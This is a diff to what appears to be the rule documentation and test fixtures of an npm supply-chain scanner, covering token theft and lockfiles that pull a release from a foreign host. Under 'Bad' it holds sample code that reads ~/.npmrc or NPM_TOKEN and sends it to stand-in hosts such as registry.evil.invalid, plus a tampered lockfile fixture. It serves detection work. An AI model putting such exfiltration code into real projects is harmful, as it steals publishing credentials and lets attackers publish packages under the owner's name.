@@ -1091,8 +1091,8 @@ With the token an attacker publishes as its owner. Every worm since 2025 spread 
 
 ## Known benign uses
 
-Registry clients read the token to send it to the registry it belongs to. They are told apart by the host:
-a registry that the settings name is not a finding.
+Registry clients read the token to send it to the registry it belongs to. They are told apart by the host: a public
+registry, or one that the user's own settings name, is not a finding.
 
 ## Bad
 
@@ -1105,6 +1105,13 @@ const text = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");
 const request = https.request({ hostname: "collector.invalid", method: "POST" });
 request.write(text); //~ here
 request.end();
+```
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+fetch("https://registry.evil.invalid/-/whoami", { headers: { authorization: `Bearer ${process.env.NPM_TOKEN}` } }); //~ here
 ```
 
 ## Good
@@ -4531,18 +4538,19 @@ exports.home = "https://stockade-selftest-one-source.invalid.example/";
         "lockfile-host-foreign",
         r#"# The lockfile takes one release from another host than the rest
 
-An entry's address is of a host that is no registry in use, no public registry, and not where a fair share of the other
-entries come from.
+An entry's address is of a host that is no registry of the user's, no public registry, and not where a fair share of
+the other entries come from.
 
 ## Why it matters
 
 Lockfiles are long and reviewed by nobody. Whoever changes one address and its integrity in a pull request chooses the
-bytes that everyone else installs, under the name of an honest package.
+bytes that everyone else installs, under the name of an honest package. The same pull request can name the host in the
+project's `.npmrc`, so only the user's own settings explain a host.
 
 ## Known benign uses
 
-Private mirrors, which hold a quarter of the entries or more, or are named in the settings; private scopes, all of
-whose packages come from one host; archives that the project itself asks for by address.
+Private mirrors, which hold a quarter of the entries or more, or are named in the user's settings or by `--registry`;
+private scopes, all of whose packages come from one host; archives that the project itself asks for by address.
 
 ## Bad
 
@@ -4580,6 +4588,23 @@ packages:
 snapshots:
   debug@4.4.0: {}
   ms@2.1.3: {}
+```
+
+```package project
+== package.json
+{"name": "app", "version": "1.0.0", "private": true, "dependencies": {"ms": "2.1.3", "debug": "4.4.0"}}
+== .npmrc
+registry=https://packages.invalid/
+== package-lock.json //~ 7
+{
+  "name": "app",
+  "lockfileVersion": 3,
+  "packages": {
+    "": {"name": "app", "dependencies": {"ms": "2.1.3", "debug": "4.4.0"}},
+    "node_modules/ms": {"version": "2.1.3", "resolved": "https://registry.example/ms/-/ms-2.1.3.tgz", "integrity": "sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU="},
+    "node_modules/debug": {"version": "4.4.0", "resolved": "https://packages.invalid/debug/-/debug-4.4.0.tgz", "integrity": "sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU="}
+  }
+}
 ```
 
 ```package project
